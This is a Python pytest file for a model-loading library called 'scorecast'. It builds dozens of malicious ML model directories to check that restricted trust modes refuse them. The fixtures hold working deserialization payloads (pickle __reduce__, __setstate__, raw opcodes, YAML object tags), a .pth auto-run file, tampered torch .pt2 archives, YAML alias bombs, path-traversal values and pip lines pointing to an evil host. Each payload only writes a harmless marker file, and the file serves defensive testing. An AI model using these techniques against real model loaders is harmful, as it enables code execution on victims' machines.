"""Models made to do harm: none runs anything where trust says so, and the same ones do where not.

Each leaves a file, the mark, when code of it runs.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import json
import lzma
import pickle
import re
import shutil
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any, NamedTuple

import joblib
import pytest
import yaml

import scorecast
from scorecast.cli.main import main
from scorecast.errors import MLmodelError, ModelError, ModelTrustError, ScorecastError
from scorecast.local.model import resolve_model
from scorecast.models.trust import Trust

OTHER = f"sha256:{'0' * 64}"


class Marking:
    """Leaves the mark when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> Any:
        return open, (str(self.mark), "w")


class Model(NamedTuple):
    """A directory to fill, and where the mark is expected."""

    path: Path
    mark: Path

    def declare(self, loader: str, flavor: dict[str, Any] | None = None, **pyfunc: Any) -> None:
        """Write the MLmodel file."""
        flavors = {"python_function": {"loader_module": loader, **pyfunc}}
        if flavor is not None:
            flavors[loader.removeprefix("mlflow.")] = flavor
        (self.path / "MLmodel").write_text(yaml.safe_dump({"flavors": flavors}))

    def pickled(self, name: str = "model.pkl", protocol: int = 4) -> bytes:
        """Write a pickle that leaves the mark; give its bytes."""
        data = pickle.dumps(Marking(self.mark), protocol)
        (self.path / name).parent.mkdir(exist_ok=True)
        (self.path / name).write_bytes(data)
        return data

    def code(self, name: str, text: str = "") -> None:
        """Write code of the model; without a text, code that leaves the mark when imported."""
        (self.path / "code").mkdir(exist_ok=True)
        (self.path / "code" / name).write_text(text or f"open({str(self.mark)!r}, 'w')\n")


def sklearn_pickle(protocol: int) -> Callable[[Model], None]:
    """A pickle of scikit-learn's flavor."""

    def write(model: Model) -> None:
        model.pickled(protocol=protocol)
        model.declare("mlflow.sklearn", {"pickled_model": "model.pkl"}, model_path="model.pkl")

    return write


def compressed(compress: Callable[[bytes], bytes]) -> Callable[[Model], None]:
    """A pickle that joblib decompresses, for a loader of its own."""

    def write(model: Model) -> None:
        data = model.pickled("weights.bin")
        (model.path / "weights.bin").write_bytes(compress(data))
        text = "import joblib\ndef _load_pyfunc(path):\n    return joblib.load(path)\n"
        model.code("evil_loader.py", text)
        model.declare("evil_loader", data="weights.bin", code="code")

    return write


def under_another_name(loader: str, name: str, **flavor: Any) -> Callable[[Model], None]:
    """A pickle that is called as a file of a safe format."""

    def write(model: Model) -> None:
        model.pickled(name)
        model.declare(f"mlflow.{loader}", {"data": name, **flavor}, data=name)

    return write


def with_path(key: str, value: Any) -> Callable[[Model], None]:
    """A path out of the directory, to a pickle."""

    def write(model: Model) -> None:
        model.pickled("../x")
        outside = str(model.path.parent / "x")
        path = value.replace("OUTSIDE", outside) if isinstance(value, str) else value
        model.declare("mlflow.sklearn", {}, **{"model_path": "model.pkl", key: path})
        model.pickled()

    return write


def setstate(model: Model) -> None:
    """A class of the model whose __setstate__ leaves the mark."""
    text = f"class Evil:\n    def __setstate__(self, s):\n        open({str(model.mark)!r}, 'w')\n"
    model.code("evil_state.py", text)
    state = b"\x80\x04\x8c\nevil_state\x8c\x04Evil\x93)\x81K\x01b."
    (model.path / "model.pkl").write_bytes(state)
    model.declare("mlflow.sklearn", {}, model_path="model.pkl", code="code")


def copied(model: Model) -> None:
    """A pickle that goes through copyreg."""
    call = b"ccopyreg\n__newobj__\n(cbuiltins\nobject\ntR0"
    plain = pickle.dumps(Marking(model.mark), 0)
    (model.path / "model.pkl").write_bytes(call + plain)
    model.declare("mlflow.sklearn", {}, model_path="model.pkl")


def joblib_plain(model: Model) -> None:
    """What joblib.dump writes."""
    joblib.dump([1, Marking(model.mark)], model.path / "model.pkl")
    model.declare("mlflow.sklearn", {}, model_path="model.pkl")


def in_zip(model: Model) -> None:
    """A pickle in a zip in a zip, for a loader of its own."""
    data, name = model.pickled("weights.bin"), "inner"
    for _ in range(2):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, data)
        data, name = buffer.getvalue(), "outer"
    (model.path / "weights.bin").write_bytes(data)
    text = (
        "import io, pickle, zipfile\ndef _load_pyfunc(path):\n"
        "    inner = io.BytesIO(zipfile.ZipFile(path).read('outer'))\n"
        "    return pickle.loads(zipfile.ZipFile(inner).read('inner'))\n"
    )
    model.code("evil_loader.py", text)
    model.declare("evil_loader", data="weights.bin", code="code")


def skops(model: Model) -> None:
    """A skops file that calls open(), which the model itself lists as trusted."""

    def text(value: str) -> dict[str, Any]:
        return {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(value),
        }

    arguments = {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [text(str(model.mark)), text("w")],
    }
    schema = {
        "__class__": "open",
        "__module__": "io",
        "__loader__": "ConstructorFromReduceNode",
        "content": arguments,
        "protocol": 2,
    }
    with zipfile.ZipFile(model.path / "model.skops", "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    flavor = {"serialization_format": "skops", "skops_trusted_types": ["io.open"]}
    model.declare("mlflow.sklearn", flavor, model_path="model.skops")


def own_loader(model: Model) -> None:
    """A loader module in the code of the model."""
    model.code("evil_import.py")
    model.declare("evil_import", code="code")


def own_class(model: Model) -> None:
    """A class of XGBoost's flavor that is code of the model."""
    model.code("evil_class.py")
    (model.path / "model.ubj").write_bytes(b"{}")
    flavor = {"data": "model.ubj", "model_class": "evil_class.Model"}
    model.declare("mlflow.xgboost", flavor, data="model.ubj", code="code")


def pth(model: Model) -> None:
    """A .pth file, which Python runs in some directories."""
    model.pickled()
    model.code("evil.pth", f"import os; open({str(model.mark)!r}, 'w')\n")
    model.declare("mlflow.sklearn", {}, model_path="model.pkl", code="code")


def torch_module(model: Model) -> None:
    """A pickled module of torch."""
    import torch

    (model.path / "data").mkdir()
    torch.save(Marking(model.mark), model.path / "data" / "model.pth")
    (model.path / "data" / "pickle_module_info.txt").write_text("pickle")
    model.declare("mlflow.pytorch", {"model_data": "data"}, data="data")


def torch_exported(change: Callable[[str, bytes, Path], bytes]) -> Callable[[Model], None]:
    """A .pt2 archive with entries that `change` gives for the name and content of real ones."""

    def write(model: Model) -> None:
        (model.path / "data").mkdir()
        with (
            zipfile.ZipFile(io.BytesIO(exported_by_torch())) as real,
            zipfile.ZipFile(model.path / "data" / "model.pt2", "w") as archive,
        ):
            for entry in real.infolist():
                content = change(entry.filename, real.read(entry), model.mark)
                archive.writestr(entry.filename, content)
        model.declare("mlflow.pytorch", {"model_data": "data"}, data="data")

    return write


@functools.cache
def exported_by_torch() -> bytes:
    """What torch writes of a network for any number of rows."""
    import torch

    rows = torch.export.Dim("rows")
    example = (torch.zeros(2, 2),)
    graph = torch.export.export(torch.nn.Linear(2, 1), example, dynamic_shapes=[{0: rows}])
    content = io.BytesIO()
    torch.export.save(graph, content)
    return content.getvalue()


def saved_by_torch(mark: Path) -> bytes:
    """What torch writes of an object that leaves the mark."""
    import torch

    content = io.BytesIO()
    torch.save((Marking(mark),), content)
    return content.getvalue()


def evil_example(name: str, content: bytes, mark: Path) -> bytes:
    """Sample inputs that torch falls back to unpickling."""
    return saved_by_torch(mark) if "sample_inputs" in name else content


def evil_weight(name: str, content: bytes, mark: Path) -> bytes:
    """A weight that says that it is a pickle."""
    if name.endswith("weights/weight_0"):
        return saved_by_torch(mark)
    return content.replace(b'"use_pickle": false', b'"use_pickle": true', 1)


def evil_size(name: str, content: bytes, mark: Path) -> bytes:
    """A size of a tensor that is evaluated."""
    size = json.dumps(f"open({str(mark)!r}, 'w')").encode()
    return re.sub(rb'"expr_str": "[^"]*"', lambda _: b'"expr_str": ' + size, content)


def replaced(old: str, new: str) -> Callable[[Model], None]:
    """A .pt2 archive with another text in its graph."""
    return torch_exported(lambda _, content, __: content.replace(old.encode(), new.encode()))


def mlflow_loader(loader: str, **pyfunc: Any) -> Callable[[Model], None]:
    """A PythonModel, or a model from code."""

    def write(model: Model) -> None:
        model.pickled("python_model.pkl")
        (model.path / "agent.py").write_text(f"open({str(model.mark)!r}, 'w')\n")
        model.declare(loader, **pyfunc)

    return write


def link(model: Model) -> None:
    """A link out of the directory."""
    model.pickled("../x")
    (model.path / "model.pkl").symlink_to("../x")
    model.declare("mlflow.sklearn", {}, model_path="model.pkl")


def text_of_yaml(text: str) -> Callable[[Model], None]:
    """An MLmodel file that harms whoever reads it."""

    def write(model: Model) -> None:
        model.pickled()
        (model.path / "MLmodel").write_text(text.replace("MARK", str(model.mark)))

    return write


def onnx_graph(
    *, domain: str = "", location: str | None = None, **flavor: Any
) -> Callable[[Model], None]:
    """A graph that wants a library, or weights from elsewhere."""

    def write(model: Model) -> None:
        import onnx
        from onnx import TensorProto, helper

        value = helper.make_tensor_value_info
        weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], raw_data=b"\0" * 4)
        if location is not None:
            weights.ClearField("raw_data")
            weights.data_location = TensorProto.EXTERNAL
            weights.external_data.add(key="location", value=location)
        graph = helper.make_graph(
            [helper.make_node("Add", ["x", "w"], ["y"], domain=domain)],
            "graph",
            [value("x", TensorProto.FLOAT, [1])],
            [value("y", TensorProto.FLOAT, [1])],
            [weights],
        )
        (model.path / "model.onnx").write_bytes(helper.make_model(graph).SerializeToString())
        (model.path.parent / "weights").write_bytes(b"\0" * 4)
        assert onnx.__version__
        model.declare("mlflow.onnx", {"data": "model.onnx", **flavor}, data="model.onnx")

    return write


def onnx_of_two_readings(model: Model) -> None:
    """A harmless graph as text; as protobuf, which ONNX Runtime reads, one that wants a library."""
    node = b'\x12\x01y"\x04Evil:\x08evil.ops2\x0e' + b"x" * 14
    graph = b"\n#" + node + b"\x12\x01g"  # every line of the text begins a comment
    text = b'ir_version:8 graph{name:"g"} '.ljust(31) + b"#"
    content = b"\n " + text + b"\x08\x08:" + bytes([len(graph)]) + graph
    (model.path / "model.textproto").write_bytes(content)
    model.declare("mlflow.onnx", {"data": "model.textproto"}, data="model.textproto")


def odd_keys(loader: str, **flavor: Any) -> Callable[[Model], None]:
    """Keys of types that nobody writes."""

    def write(model: Model) -> None:
        (model.path / "file").write_bytes(b"{}")
        model.declare(f"mlflow.{loader}", flavor, data="file")

    return write


LAUGHS = "a0: &a0 [x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 12)
)
OPTIONS = {"extra_session_config": {"session.use_env_allocators": "1"}}
PROVIDER = [["QNNExecutionProvider", {"backend_path": "/tmp/evil.so"}]]
# Those that leave the mark where every model is taken.
RUNNING: dict[str, Callable[[Model], None]] = {
    "reduce": sklearn_pickle(4),
    "reduce, protocol 0": sklearn_pickle(0),
    "reduce, protocol 2": sklearn_pickle(2),
    "copyreg": copied,
    "setstate": setstate,
    "joblib": joblib_plain,
    "joblib zlib": compressed(zlib.compress),
    "joblib gzip": compressed(gzip.compress),
    "joblib bz2": compressed(bz2.compress),
    "joblib xz": compressed(lzma.compress),
    "joblib lzma": compressed(lambda data: lzma.compress(data, lzma.FORMAT_ALONE)),
    "in a zip": in_zip,
    "skops with a list of its own": skops,
    "loader module": own_loader,
    "class of its own": own_class,
    ".pth in code": pth,
    "torch": torch_module,
    ".pt2 with a pickled weight": torch_exported(evil_weight),
    ".pt2 with a size of code": torch_exported(evil_size),
    "statsmodels": under_another_name("statsmodels", "model.statsmodels"),
    "lightgbm estimator": under_another_name("lightgbm", "m", model_class="lightgbm.sklearn.X"),
}
# Those that are refused without being asked, or hide from others than scorecast.
QUIET: dict[str, Callable[[Model], None]] = {
    "pickle as skops": under_another_name("sklearn", "model.skops", pickled_model="model.skops"),
    "pickle as onnx": under_another_name("onnx", "model.onnx"),
    "pickle as xgboost": under_another_name("xgboost", "model.ubj"),
    "pickle as lightgbm": under_another_name("lightgbm", "model.lgb"),
    "pickle as catboost": under_another_name("catboost", "m", model_type="CatBoostRegressor"),
    "PythonModel": mlflow_loader("mlflow.pyfunc.model", python_model="python_model.pkl"),
    "model from code": mlflow_loader("mlflow.pyfunc.model", model_code_path="/home/x/agent.py"),
    "loader of Python": mlflow_loader("subprocess"),
    "absolute python_model": with_path("python_model", "OUTSIDE"),
    "data with ..": with_path("data", "../x"),
    "data far out": with_path("data", "../../x"),
    "absolute data": with_path("data", "OUTSIDE"),
    "backslash": with_path("data", "..\\x"),
    "drive": with_path("data", "C:x"),
    "NUL": with_path("data", "model.pkl\0"),
    "newline": with_path("data", "x\n"),
    "code with ..": with_path("code", ".."),
    "env with ..": with_path("env", {"conda": "../x"}),
    "artifact as a URI": with_path("artifacts", {"a": {"path": "file:///etc/hostname"}}),
    "link": link,
    "object in YAML": text_of_yaml("!!python/object/apply:builtins.open [MARK, w]"),
    "aliases": text_of_yaml("x: &x [1]\ny: [" + "*x," * 1_000_000 + "]\n"),
    "aliases of aliases": text_of_yaml(LAUGHS),
    "a key twice": text_of_yaml("flavors: {}\nflavors: {python_function: {loader_module: os}}\n"),
    "deep signature": text_of_yaml(
        "flavors: {f: {}}\nsignature: {inputs: '" + "[" * 100_000 + "'}\n"
    ),
    "deep YAML": text_of_yaml("[" * 100_000),
    "deeper YAML than any": text_of_yaml("[" * 300 + "]" * 300),
    "large YAML": text_of_yaml("# " + "x" * (9 << 20)),
    "a number as path": with_path("data", 5),
    "a list as class": odd_keys("xgboost", model_class=["xgboost.core.Booster"]),
    "a number as providers": odd_keys("onnx", providers=5),
    "a list as options": odd_keys("onnx", onnx_session_options=[1]),
    "a list as format": odd_keys("catboost", save_format=["cbm"]),
    ".pt2 with an example of code": torch_exported(evil_example),
    ".pt2 with a function of Python": replaced("torch.ops.aten.linear.default", "torch.os.mkdir"),
    ".pt2 that clears the terminal": replaced(
        "torch.ops.aten.linear.default", r"\u001b[2J\n" * 999
    ),
    ".pt2 with an operator of files": replaced("aten.linear.default", "aten.from_file.default"),
    ".pt2 with an output given": replaced("aten.linear.default", "aten.linear.out"),
    ".pt2 with conditions": replaced('"guards_code": []', '"guards_code": ["open(1)"]'),
    ".pt2 with an object": replaced(
        '"as_tensor": {"name": "input"}}, "kind"', '"as_custom_obj": {}}, "kind"'
    ),
    ".pt2 with a text for Python": replaced(
        '"torch.ops.aten.linear.default", "inputs": [',
        '"_operator.mod", "inputs": '
        '[{"name": "a", "arg": {"as_string": "%9999999999d"}, "kind": 1}, ',
    ),
    ".pt2 for a device of a plug-in": replaced('"type": "cpu"', '"type": "privateuseone"'),
    ".pt2 for no device": replaced('"type": "cpu"', '"type": "meta"'),
    ".pt2 with a name from nowhere": replaced('"name": "input"}}, "kind"', '"name": "q"}}, "kind"'),
    ".pt2 of another schema": replaced('"major": 8', '"major": 9'),
    ".pt2 that is deep": replaced('"guards_code": []', '"guards_code": ' + "[" * 10**5),
    "onnx with a library": onnx_graph(domain="evil.ops"),
    "onnx of two readings": onnx_of_two_readings,
    "onnx with data outside": onnx_graph(location="../weights"),
    "onnx with absolute data": onnx_graph(location="/etc/hostname"),
    "onnx with options": onnx_graph(onnx_session_options=OPTIONS),
    "onnx with a provider": onnx_graph(providers=PROVIDER),
}
ALL = {**RUNNING, **QUIET}
# What an MLmodel file may not hold under any trust.
MALFORMED = {
    "absolute python_model": "it is absolute",
    "data with ..": 'it holds ".."',
    "data far out": 'it holds ".."',
    "absolute data": "it is absolute",
    "backslash": "a backslash",
    "drive": "a scheme or a drive",
    "NUL": "a control character",
    "newline": "a control character",
    "code with ..": 'it holds ".."',
    "env with ..": 'it holds ".."',
    "artifact as a URI": "a scheme or a drive",
    "a number as path": "it is no text",
    "object in YAML": "it is not YAML",
    "aliases": "aliases stand for too many values at line 2",
    "aliases of aliases": "aliases stand for too many values at line",
    "a key twice": "the key 'flavors' twice at line 2",
    "deep signature": "Cannot read the inputs of the model signature",
    "deep YAML": "it is not YAML",
    "deeper YAML than any": "more than 100 levels at line 1",
    "large YAML": "larger than 8,388,608 bytes",
}


@pytest.fixture
def make(tmp_path: Path) -> Callable[[str], Model]:
    """Write one of the models."""

    def write(name: str) -> Model:
        model = Model(tmp_path / "model", tmp_path / "mark")
        model.path.mkdir()
        ALL[name](model)
        return model

    return write


@pytest.mark.parametrize("name", ALL)
def test_nothing_of_a_malicious_model_runs(name: str, make: Callable[[str], Model]) -> None:
    """Neither where it must run no code nor where it is not the pinned one; it is refused."""
    model = make(name)
    before = set(model.path.rglob("*"))

    for trust in (Trust("no-pickle"), Trust("pinned", OTHER)):
        with pytest.raises(ScorecastError) as refused:
            resolve_model(model.path, trust)
        assert isinstance(refused.value, ModelError) or name == "link"
        with pytest.raises(ScorecastError):
            scorecast.load_model(model.path, trust=trust.mode, model_digest=trust.digest)
        assert str(refused.value).isprintable()
        assert str(refused.value).endswith(".")
    for command in (["--trust", "no-pickle"], ["--trust", "pinned", "--model-digest", OTHER]):
        assert main(["inspect", str(model.path), *command]) in (4, 7)
    with suppress(ScorecastError):
        scorecast.inspect_model(model.path)

    assert not model.mark.exists()
    assert set(model.path.rglob("*")) == before


@pytest.mark.parametrize("name", RUNNING)
@pytest.mark.filterwarnings("ignore")
def test_the_same_models_run_code_where_every_model_is_taken(
    name: str, make: Callable[[str], Model]
) -> None:
    """So that the test above can fail."""
    model = make(name)

    with suppress(ScorecastError):
        scorecast.load_model(model.path)

    assert model.mark.exists()


@pytest.mark.filterwarnings("ignore")
def test_an_example_of_code_is_left_unread_where_torch_runs_it(
    make: Callable[[str], Model],
) -> None:
    """The example that torch.export adds is not needed; torch unpickles it."""
    import torch

    model = make(".pt2 with an example of code")

    scorecast.load_model(model.path)
    assert not model.mark.exists()
    with suppress(Exception):
        torch.export.load(model.path / "data" / "model.pt2")
    assert model.mark.exists()


@pytest.mark.parametrize("name", RUNNING)
def test_the_message_says_which_file_and_what_to_do(
    name: str, make: Callable[[str], Model], capsys: pytest.CaptureFixture[str]
) -> None:
    """A reader finds the file, the reason and two ways on."""
    model = make(name)
    files = {path.relative_to(model.path).as_posix() for path in model.path.rglob("*")} - {
        "MLmodel",
        "data",
    }

    assert main(["predict", str(model.path), "x.csv", "--trust", "no-pickle"]) == 4

    message = capsys.readouterr().err
    assert any(f'"{file}' in message for file in files), message
    assert "ONNX" in message
    assert "model_digest" in message


@pytest.mark.parametrize(("name", "reason"), MALFORMED.items())
def test_paths_and_yaml_are_held_to_limits_whatever_the_trust(
    name: str, reason: str, make: Callable[[str], Model]
) -> None:
    """No front reads such a file."""
    with pytest.raises(MLmodelError) as refused:
        scorecast.inspect_model(make(name).path)

    assert reason in str(refused.value)


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("onnx with a library", 'operators of "evil.ops"'),
        ("onnx of two readings", 'operators of "evil.ops"'),
        ("onnx with data outside", 'it holds ".."'),
        ("onnx with absolute data", "it is absolute"),
        ("onnx with options", "options of a session"),
        ("onnx with a provider", "options of a session or of providers"),
        ("pickle as onnx", '"model.onnx" is a pickle'),
        ("pickle as xgboost", '"model.ubj" is a pickle'),
        ("model from code", 'the loader module "mlflow.pyfunc.model"'),
        ("loader of Python", 'the loader module "subprocess"'),
        ("skops with a list of its own", "skops does not take for safe: io.open"),
        (".pt2 with an example of code", "sample_inputs/model.pt!archive/data.pkl"),
        (".pt2 with a pickled weight", '"data/model.pt2" holds "weight" as a pickle'),
        (".pt2 with a size of code", '"data/model.pt2" takes a tensor with a size that'),
        (".pt2 with a function of Python", '"data/model.pt2" calls "torch.os.mkdir"'),
        (".pt2 with an operator of files", 'calls "torch.ops.aten.from_file.default"'),
        (".pt2 with an output given", 'calls "torch.ops.aten.linear.out"'),
        (".pt2 with conditions", "takes some sizes of its input only"),
        (".pt2 with an object", '"as_custom_obj"'),
        (".pt2 with a text for Python", 'gives "_operator.mod" a text'),
        (".pt2 for a device of a plug-in", "is for a device that is none of cpu"),
        (".pt2 for no device", "is for a device that is none of cpu"),
        (".pt2 with a name from nowhere", "cannot be read as a graph"),
        (".pt2 of another schema", "is of schema 9"),
        (".pt2 that is deep", "cannot be read as a graph of torch.export (RecursionError)"),
        ("in a zip", '"weights.bin!outer!inner" is a pickle'),
        ("joblib xz", '"weights.bin" is a pickle'),
        ("class of its own", 'the class "evil_class.Model"'),
    ],
)
def test_each_is_refused_for_its_own_reason(
    name: str, reason: str, make: Callable[[str], Model]
) -> None:
    """And not for another that happens to hold as well."""
    with pytest.raises(ModelTrustError) as refused:
        resolve_model(make(name).path, Trust("no-pickle"))

    assert reason in str(refused.value)


def test_lines_for_pip_are_never_run(tmp_path: Path) -> None:
    """Requirements of an author name indexes and repositories; the model is taken as it is."""
    from sklearn.linear_model import LinearRegression

    model = LinearRegression().fit([[0.0], [1.0]], [1.0, 3.0])
    path = scorecast.save_model(model, tmp_path / "m", serialization_format="skops")
    lines = ["--index-url http://evil.invalid/", "-e git+http://evil.invalid/x#egg=x"]
    (path / "requirements.txt").write_text("\n".join(lines))
    (path / "conda.yaml").write_text(yaml.safe_dump({"dependencies": [{"pip": lines}]}))

    loaded = scorecast.load_model(path, trust="no-pickle")

    assert loaded.predict([[2.0]]) == pytest.approx([5.0])


def test_a_model_that_changes_after_the_check_is_not_loaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is loaded is what was checked, whoever writes to the directory meanwhile."""
    from sklearn.linear_model import LinearRegression

    from scorecast.local import model as local

    model = LinearRegression().fit([[0.0], [1.0]], [1.0, 3.0])
    path = scorecast.save_model(model, tmp_path / "m", serialization_format="skops")
    checked = local.refuse_code

    def check_then_swap(*arguments: Any) -> None:
        checked(*arguments)
        shutil.rmtree(path)

    monkeypatch.setattr(local, "refuse_code", check_then_swap)

    loaded = scorecast.load_model(path, trust="no-pickle")
    assert not path.exists()
    assert loaded.predict([[2.0]]) == pytest.approx([5.0])
